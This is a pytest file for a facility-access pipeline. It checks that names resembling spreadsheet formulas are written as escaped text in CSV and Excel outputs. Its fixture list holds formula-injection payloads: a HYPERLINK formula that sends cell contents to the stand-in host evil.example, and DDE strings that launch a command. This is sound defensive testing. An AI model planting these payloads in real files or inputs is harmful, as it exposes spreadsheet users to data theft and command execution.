"""Names from the inputs that look like spreadsheet formulas stay text in every output table:
as text cells in gaps.xlsx and ledger.xlsx, with a leading apostrophe in every CSV
(circles._sheets). The names are those of the communities, the facilities (names and ids)
and the rows of input_problems.csv."""

from __future__ import annotations

import csv
import dataclasses

import pandas as pd
import pytest
from openpyxl import load_workbook

from circles import pipeline
from circles._sheets import FORMULA_START

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1\r",
]


@pytest.fixture(scope="module")
def hostile_outputs(demo_result, tmp_path_factory):
    r = demo_result
    cname = {cid: HOSTILE[i % len(HOSTILE)] + f" 社区{i}" for i, cid in enumerate(r.communities["id"])}
    fid = {f: HOSTILE[i % len(HOSTILE)] + f"#{i}" for i, f in enumerate(r.facilities["id"])}
    residents = r.residents.copy()
    for c in [c for c in residents.columns if c.startswith("nearest_")]:
        residents[c] = residents[c].map(lambda v: fid.get(v, v))
    problems = pd.DataFrame(
        {
            "source_file": ["amap.csv"] * len(HOSTILE),
            "row_number": range(2, 2 + len(HOSTILE)),
            "field": ["名称"] * len(HOSTILE),
            "value": HOSTILE,
            "reason": ["no facility type recognised"] * len(HOSTILE),
        }
    )
    hostile = dataclasses.replace(
        r,
        communities=r.communities.assign(name=r.communities["id"].map(cname)),
        gaps=r.gaps.assign(community_name=r.gaps["community_id"].map(cname)),
        ledger=r.ledger.assign(community_name=r.ledger["community_id"].map(cname)),
        facilities=r.facilities.assign(
            id=r.facilities["id"].map(fid), name=[HOSTILE[i % len(HOSTILE)] for i in range(len(r.facilities))]
        ),
        residents=residents,
        input_problems=problems,
    )
    out = tmp_path_factory.mktemp("hostile") / "out"
    return pipeline.write_outputs(hostile, out), out


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", ["gaps.csv", "ledger.csv", "access.csv", "facilities.csv", "input_problems.csv"])
def test_csv_cells_never_start_like_a_formula(hostile_outputs, name):
    _, out = hostile_outputs
    with open(out / name, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows[1:] for c in row]
    risky = [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]
    assert risky == [], risky[:3]
    escaped = [c for c in cells if c.startswith("'") and c[1:].startswith(FORMULA_START)]
    assert escaped, f"no hostile text reached {name}"
    # the text itself is kept after the apostrophe
    assert any(c[1:].split(" 社区")[0].split("#")[0] in HOSTILE for c in escaped)


@pytest.mark.parametrize("name", ["gaps.xlsx", "ledger.xlsx"])
def test_workbook_cells_are_text_not_formulas(hostile_outputs, name):
    _, out = hostile_outputs
    wb = load_workbook(out / name)
    formulas, texts = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((ws.title, cell.coordinate, cell.value))
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    texts.append(cell.value)
    assert formulas == []
    assert any(t.startswith(HOSTILE[0]) for t in texts)  # stored verbatim, as text


def test_run_info_lists_every_output(hostile_outputs):
    paths, out = hostile_outputs
    info = pipeline._outputs.read_run_info(out)
    assert info is not None
    assert set(info["outputs"]) == {p.name for p in out.iterdir()} - {"run_info.json"}
    assert paths["run_info"] == out / "run_info.json"
    for stage in ("load", "network", "reach", "gaps", "isochrones", "write_gaps", "write_ledger", "write_maps"):
        assert stage in info["timings_s"], stage
    assert info["inputs"]["facilities"]["sha256"] and info["options"]["max_attach_m"] == 250.0
    assert info["versions"]["circles"] and info["started"] <= info["finished"]
